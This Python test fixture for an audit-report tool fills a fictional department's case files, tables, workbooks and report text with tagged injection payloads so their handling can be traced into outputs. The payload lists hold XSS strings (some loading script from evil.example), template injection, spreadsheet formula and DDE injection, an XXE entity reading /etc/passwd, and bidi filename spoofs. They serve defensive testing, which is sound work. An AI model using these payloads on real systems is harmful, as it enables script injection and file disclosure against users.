"""A case whose every text field holds what might do harm: the invented department, with many more rows, each with a payload.

A value is its payload and a mark of its own, so that what becomes of each pair of payload and field can be followed into
the outputs. ``build`` takes a turn: with each turn every field gets other payloads.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import itertools
import json
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
from conftest import INVENTED
from damage import CASE, case_file, folder, replace

HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", '"><script src=https://evil.example/x.js></script>',
    "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)", "<!-- unclosed", "--><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>",
    '<style>*{background:url(https://evil.example/a)}</style>', "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<form action=https://evil.example/><input name=a>",
    "<object data=https://evil.example/x></object>", "<template><script>alert(1)</script></template>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>", "<p style=background:url(//evil.example/a)>", "</td></tr></table><script>alert(1)</script>", "<h1>另一个标题</h1>",
    '<section id="conclusion">', '</svg><script>alert(1)</script>', "<text>x</text><image href=https://evil.example/a.png />", "&NewLine;&colon;&lpar;",
)  # fmt: skip
TEMPLATE = (
    "{{7*7}}",
    "{% import os %}",
    "${7*7}",
    "{{ self.__init__ }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(title)s",
    "{0.__class__}",
    "{resources}",
)
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](https://evil.example/a.png)", r"$\href{javascript:alert(1)}{x}$", r"$$\require{x}$$", "`code`", "# 标题", "> 引", "<https://evil.example>",
    "\\(x\\)", "[^1]: x", "* 点", "~~~html",
)  # fmt: skip
FORMULA = (
    "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("https://evil.example","x")', '=WEBSERVICE("https://evil.example")', "=DDE(\"cmd\",\"/c calc\",\"x\")",
    "＝1＋1", "=1+1", "{=1+1}", "'=1+1", '"=1+1"', "=IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")", "%0A=1+1", "@REF(A1)", "https://evil.example/", "mailto:a@evil.example",
    "external:c:\\x.xlsx", "internal:Sheet1!A1",
)  # fmt: skip
WORD = (
    "{ INCLUDETEXT \"c:\\\\x\" }", "{ HYPERLINK \"https://evil.example\" }", "<w:instrText>DDEAUTO c:\\\\x</w:instrText>", "]]></w:t>", "</w:t></w:r><w:r><w:fldSimple w:instr=\"INCLUDEPICTURE\"/>",
    "&xxe;", "&amp;#x0;", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "_x001B_[31m", "_x0000_",
)  # fmt: skip
BIDI = ("\u202etxt.exe", "\u2066\u202e左右\u2069", "\u200f\u200e右", "\u202a\u202b中\u202c", "\u2067反\u2069")
PAYLOADS = (*HTML, *TEMPLATE, *MARKDOWN, *FORMULA, *WORD, *BIDI)

NO_GLYPH = "𠮷"  # no character of the font in which charts are drawn
WORKBOOKS = ("statements", "figures")  # shapes that come in a workbook, the others as text
_LETTERS = "abcdefghijklmnoprstuvwxy"  # no q and z, which frame the mark


@dataclass
class Built:
    """A case with payloads: its file, its scenario, and each pair's field, payload and value by its mark."""

    case: Path
    scenario: Path
    pairs: dict[str, tuple[str, str, str]] = field(default_factory=dict)


class _Source:
    """Values, each with the next payload and a mark that occurs nowhere else."""

    def __init__(self, turn: int, built: Built) -> None:
        self._next = itertools.cycle(PAYLOADS[turn % len(PAYLOADS) :] + PAYLOADS[: turn % len(PAYLOADS)])
        self._marks: Iterator[str] = (
            "zq" + "".join(three) + "qz" for three in itertools.product(_LETTERS, repeat=3)
        )
        self._built = built

    def value(self, name: str, *, before: str = "", without: Sequence[str] = (), most: int = 500) -> str:
        """The value of a field, at most so long. ``before``: what must stand there; ``without``: what must not."""
        payload = next(
            payload
            for payload in self._next
            if len(payload) < most - 8 and not any(part in payload for part in without)
        )
        mark = next(self._marks)
        said = f"{before}{payload}{mark}"
        self._built.pairs[mark] = (name, payload, said)
        return said


def build(base: Path, turn: int) -> Built:
    """Copy the invented department to a folder and fill it with payloads."""
    shutil.copytree(INVENTED, base)
    built = Built(case_file(base), base / "params" / "scenarios" / "injected.yaml")
    of = _Source(turn, built)
    _case(base, of)
    _framework(base, of)
    built.scenario.parent.mkdir()
    _yaml(
        built.scenario,
        {"reason": of.value("scenario.reason"), "definitions": {"budget_adjustment_rate": "net"}},
    )
    sources = _tables(base, of)
    _document(base, of, sources)
    register = folder(base) / "SOURCES.yaml"
    text = register.read_text(encoding="utf-8")
    old = hashlib.sha256((INVENTED / "data" / "raw" / CASE / "report.txt").read_bytes()).hexdigest()
    new = hashlib.sha256((folder(base) / "report.txt").read_bytes()).hexdigest()
    for entry in sources:  # JSON is YAML
        text += f"  - {json.dumps(entry, ensure_ascii=False)}\n"
    register.write_text(text.replace(old, new), encoding="utf-8")
    return built


def _yaml(path: Path, content: object) -> None:
    path.write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")


def _case(base: Path, of: _Source) -> None:
    _yaml(
        case_file(base),
        {
            "case": CASE, "year": 2021, "framework": "injected", "framework_reason": of.value("case.framework_reason"),
            "report_title": of.value("case.report_title"),
            "department": {
                "name": of.value("case.department.name"), "region": of.value("case.department.region"), "level": of.value("case.department.level"),
            },
            "materiality": {"amount": 50000, "unit": "元", "reason": of.value("case.materiality.reason")},
            "units": [{"id": name, "name": of.value("case.units.name")} for name in ("bureau", "river-station", "third", "fourth")],
        },
    )  # fmt: skip


def _framework(base: Path, of: _Source) -> None:
    items = [("staff_control_rate", "established", 20), ("budget_adjustment_rate", "ministry", 20)]
    _yaml(
        _made(base / "params" / "frameworks") / "injected.yaml",
        {
            "framework": "injected", "title": of.value("framework.title"), "issuer": of.value("framework.issuer"),
            "edition": of.value("framework.edition"), "full_marks": 100, "valid": {"from": 2018, "to": None}, "basis": "department",
            "weights": "documented", "source": of.value("framework.source"), "caveats": of.value("framework.caveats"),
            "groups": [
                {"id": "one", "name": of.value("framework.groups.name", before=NO_GLYPH), "points": 40},
                {"id": "rest", "name": of.value("framework.groups.name", before=NO_GLYPH), "points": 60},
            ],
            "items": [
                *(
                    {"indicator": name, "definition": definition, "group": "one", "points": points, "source": of.value("framework.items.source"),
                     "rule": {"steps": [["<= 100%", points], ["> 100%", 0]]}}
                    for name, definition, points in items
                ),
                {"group": "rest", "unspecified": 60, "reason": of.value("framework.items.reason")},
            ],
        },
    )  # fmt: skip


def _made(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _csv(rows: Sequence[dict[str, str]]) -> bytes:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def _tables(base: Path, of: _Source) -> list[dict[str, object]]:
    """Further tables of every shape; returns their entries of the register."""
    from auditbook.intake.raw_tables import SHAPES

    def row(shape: str, *injected: str, **given: str) -> dict[str, str]:
        found = dict.fromkeys(SHAPES[shape], "") | given
        # a workbook writes a control character so, and is refused for it
        without = ("_x00",) if shape in WORKBOOKS else ()
        return found | {column: of.value(f"{shape}.{column}", without=without) for column in injected}

    raw = folder(base)
    weights = [
        ("year.quarterly", "60"),
        ("year.year_end", "40"),
        ("staff.leader_in_charge", "30"),
        ("staff.division_head", "70"),
    ]
    tables = {
        "figures": [
            *(row("figures", "label", "locator", figure="appraisal_weight", scope="department", item=item, year="2021", state="value", value=value,
                  unit="%", precision="exact", quote=of.value("figures.quote", before=f"权重{value}%", without=("_x00",))) for item, value in weights),
            *(row("figures", "label", "locator", figure=name, scope="department", year="2021", state="missing", unit="万元")
              for name in ("basic_spent", "project_spent", "three_public_budget")),
        ],
        "objectives": [
            *(row("objectives", "measure", "claimed", "locator", "quote", "actual_measure", "actual_locator", "actual_quote", objective=f"i{n}") for n in range(2)),
            *(row("objectives", "measure", "claimed", "locator", "quote", "actual_measure", "actual_locator", "actual_quote", objective=f"i{n}", item="part")
              for n in range(2)),
            row("objectives", "measure", "claimed", "locator", objective="i0", item="number", comparator=">=", target="5", actual="4", precision="exact",
                unit=of.value("objectives.unit", before=NO_GLYPH)),
        ],
        "statements": [
            row("statements", "statement", "about", "locator", "quote", kind=kind)
            for kind in ("result", "reason", "reference", "problem", "suggestion", "method", "name", "deadline", "residue", "typo")
        ],
        "published": [
            row("published", "claim", "locator", kind="rate", about="budget_execution_rate", scope="department", year="2021", published="95.25",
                unit="%", precision="0.01", quote=of.value("published.quote", before="预算执行率95.25%")) for _ in range(2)
        ],
        "judgements": [
            row("judgements", "grounds", "who", "locator", "quote", indicator="target_reasonableness", point=point, verdict="met", when="2022-04-01")
            for point in ("laws", "duties", "plans")
        ],
        "overrides": [
            row("overrides", "reason", "who", "locator", "quote", scheme="injected", indicator="staff_control_rate", points="3", when="2022-04-01")
        ],
        "recorded": [
            row("recorded", "name", "criterion", "condition", "cause", "effect", "recommendation", "who", "locator", "quote", "about",
                finding=f"recorded-{n}", severity=severity, kind="method", scope="department", when="2022-04-01")
            for n, severity in enumerate(("high", "medium", "low"))
        ],
        "replies": [
            *(row("replies", "reply", "replied_by", "answer", "answered_by", "locator", "quote", finding=f"auditor:recorded-{n}:department",
                  replied_when="2022-05-01", answered_when="2022-05-02", status="disputed") for n in range(2)),
            row("replies", "finding", "reply", "replied_by", status="open"),
        ],
        "grades": [
            row("grades", "item", "locator", "quote", person="1号", branch="staff", period="q1", grader="division_head", grade="优"),
        ],
    }  # fmt: skip
    entries: list[dict[str, object]] = []

    def register(name: str, data: bytes, **more: object) -> None:
        (raw / name).write_bytes(data)
        entries.append(
            {
                "id": f"injected-{len(entries)}", "file": name, "title": of.value("sources.title"), "issuer": of.value("sources.issuer"),
                "date": None, "status": "transcribed", "sha256": hashlib.sha256(data).hexdigest(), "reliability": "low",
                "reason": of.value("sources.reason"), **more,
            }
        )  # fmt: skip

    for shape, rows in tables.items():
        # what a file's name may be: no slash, no backslash, and blanks at its ends are lost
        name = of.value("file name", without="/\\\u202e\u2066\u2067\u200f\u202a", most=60)
        if shape in WORKBOOKS:
            sheet = of.value("sheet name", without="[]:*?/\\'\u202e\u2066\u2067\u200f\u202a", most=31)
            register(f"{name}.xlsx", workbook(sheet, rows), shape=shape)
        else:
            register(f"{name}.csv", _csv(rows), shape=shape)
    entries += [
        {
            "id": f"absent-{n}", "title": of.value("sources.title"), "issuer": of.value("sources.issuer"), "date": None, "status": "absent",
            "referred_in": of.value("sources.referred_in"), "quote": of.value("sources.quote"), "supplies": of.value("sources.supplies"),
        }
        for n in range(3)
    ]  # fmt: skip
    return entries


def workbook(name: str, rows: Sequence[dict[str, str]]) -> bytes:
    """A workbook of one sheet in which every cell is text."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = name
    for number, line in enumerate([list(rows[0]), *(list(row.values()) for row in rows)], 1):
        for column, value in enumerate(line, 1):
            if value:
                cell = sheet.cell(number, column)
                cell.value = value
                cell.data_type = "s"  # text, also where it begins with =
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _document(base: Path, of: _Source, sources: list[dict[str, object]]) -> None:
    """Paragraphs of the report that hold payloads, some of them quoted, and another original as HTML."""
    report = folder(base) / "report.txt"
    plain = [of.value("document.text", before=f"全年完成任务{n}项，") for n in range(3, 9)]
    quoted = [of.value("document.quoted", before="已建成水闸，") for _ in range(6)]
    report.write_text(
        report.read_text(encoding="utf-8") + "\n".join(["", *plain, *quoted, ""]), encoding="utf-8"
    )
    rows = [
        {"statement": f"quoted-{n}", "kind": "result", "about": "", "date": "", "locator": "", "quote": words}
        for n, words in enumerate(quoted)
    ]
    told = [of.value("document.html", before="年内检查水闸，") for _ in range(3)]
    page = (
        "<!DOCTYPE html><html><head><title>x</title></head><body>"
        + "".join(f"<p>{html.escape(words)}</p>" for words in told)
        + "</body></html>"
    )
    more = [
        {"statement": f"told-{n}", "kind": "result", "about": "", "date": "", "locator": "", "quote": words}
        for n, words in enumerate(told)
    ]
    files = {
        "quoted.csv": (_csv(rows), "report"),
        "told.html": (page.encode(), ""),
        "told.csv": (_csv(more), "told.html"),
    }
    digests = {name: hashlib.sha256(data).hexdigest() for name, (data, _) in files.items()}
    digests["report"] = hashlib.sha256(report.read_bytes()).hexdigest()
    for name, (data, origin) in files.items():
        (folder(base) / name).write_bytes(data)
        entry: dict[str, object] = {
            "id": name.replace(".", "-"), "file": name, "title": of.value("sources.title"), "issuer": "虚构", "date": None,
            "status": "transcribed" if origin else "received", "sha256": digests[name], "reliability": "low", "reason": "虚构",
        }  # fmt: skip
        if origin:
            entry |= {
                "shape": "statements",
                "transcribed_from": {"source": origin.replace(".", "-"), "sha256": digests[origin]},
            }
        sources.append(entry)


__all__ = ["PAYLOADS", "Built", "build", "replace"]
